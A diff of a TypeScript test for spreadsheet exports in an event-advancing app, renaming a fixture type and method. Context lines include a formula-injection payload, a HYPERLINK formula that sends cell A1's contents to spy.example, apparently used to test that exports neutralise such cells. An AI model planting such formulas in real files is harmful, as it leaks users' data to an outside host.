@@ -2,13 +2,13 @@ import { advancing, type ExportForm, type ExportedFile } from '@laminate/contrac
 import { plainCell } from '@laminate/contracts/csv-cell';
 import Papa from 'papaparse';
 import readXlsxFile from 'read-excel-file/node';
-import { openAdvancingFixture, type Place } from '../../testing/advancing-fixture.ts';
+import { openAdvancingFixture, type TestEvent } from '../../testing/advancing-fixture.ts';
 
 const on = await openAdvancingFixture();
 
 async function one(
   table: string,
-  { accountId, eventId }: Place,
+  { accountId, eventId }: TestEvent,
   row: Readonly<Record<string, unknown>>,
 ): Promise<number> {
   const columns = Object.keys(row);
@@ -23,7 +23,7 @@ const FORMULA = `=HYPERLINK("https://spy.example?"&A1,"x")`;
 
 /** A form with a section of travel, answered by two artists. */
 async function answered() {
-  const here = await on.place();
+  const here = await on.addEvent();
   await on.artist(here, 'No form');
   const formId = await one('form', here, { name: 'Travel' });
   await one('form_section', here, { form_id: formId, name: 'Welcome', section_type: 'Intro' });
@@ -74,7 +74,7 @@ async function answered() {
 }
 
 const get = (
-  here: Place,
+  here: TestEvent,
   route: typeof advancing.exportSection,
   ids: { formId: number; sectionId: number },
   language = 'en',
